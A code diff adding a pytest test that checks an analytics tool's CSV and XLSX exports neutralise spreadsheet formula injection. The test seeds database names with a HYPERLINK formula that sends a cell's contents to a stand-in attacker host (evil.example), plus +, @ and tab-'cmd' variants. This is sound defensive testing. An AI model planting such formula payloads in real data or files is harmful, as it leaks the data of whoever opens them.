@@ -356,3 +356,64 @@ def test_scoped_filter_bar_names_only_the_scope(tmp_path, monkeypatch) -> None:
     c9 = _filter_bar(app_module, "c9")
     assert c9 == {"program": ["Horizons"], "cluster": ["C9"], "exchange": ["X9"],
                   "country": ["NOR"]}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_formula_injection_in_names_is_neutralised_in_exports(tmp_path) -> None:
+    """Attack: an institution, exchange, cluster or program named like a spreadsheet formula.
+    Names stay out of the exports (ids only); text that does reach them (the program, an
+    exchange's purpose) starts with a quote in CSV and XLSX, and no XLSX cell is a formula."""
+    import csv
+
+    import duckdb
+    import openpyxl
+
+    from analytics.outputs import cli
+    from etl import schema
+    from tests.analytics_fixture import run
+
+    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
+    con = duckdb.connect(str(wh))
+    con.execute(f'UPDATE "{schema.INSTITUTIONS.name}" SET name = ?', ["+" + FORMULA[1:]])
+    con.execute(f'UPDATE "{schema.CLUSTERS.name}" SET name = ?', ["@" + FORMULA[1:]])
+    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET name = ?', [FORMULA])
+    con.execute(f"UPDATE \"{schema.EXCHANGES.name}\" SET program = ? WHERE program = 'Horizons'",
+                [FORMULA])
+    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET purpose = ?', ["-2+3\tcmd"])
+    con.close()
+    assert cli.main(["refresh", "--warehouse", str(wh)]) == 0  # results over the new names
+    dangerous = tuple("=+-@\t\r")
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / fmt
+        r = run("analytics", "export", "--all", "--format", fmt, "--out", str(out),
+                "--warehouse", str(wh))
+        assert r.returncode == 0, r.stderr
+        cells: list[object] = []
+        if fmt == "csv":
+            for f in out.glob("*.csv"):
+                with open(f, encoding="utf-8-sig", newline="") as fh:
+                    cells += [v for row in csv.reader(fh) for v in row]
+        else:
+            for f in out.glob("*.xlsx"):
+                wb = openpyxl.load_workbook(f)
+                for ws in wb.worksheets:
+                    for row in ws.iter_rows():
+                        assert all(c.data_type != "f" for c in row), (f.name, ws.title)
+                        cells += [c.value for c in row]
+        texts = [v for v in cells if isinstance(v, str)]
+        assert "'" + FORMULA in texts, fmt  # the program's cells, quoted
+        assert "'-2+3\tcmd" in texts, fmt  # the purpose (moderation levels), quoted
+        for v in texts:
+            assert not v.startswith(dangerous) or _is_number(v), (fmt, v)
+        assert not any("evil.example" in v and not v.startswith("'") for v in texts), fmt
+
+
+def _is_number(v: str) -> bool:
+    """Numbers written as text in CSV ("-0.25", "-inf") are numbers, not formulas."""
+    try:
+        float(v)
+    except ValueError:
+        return False
+    return True
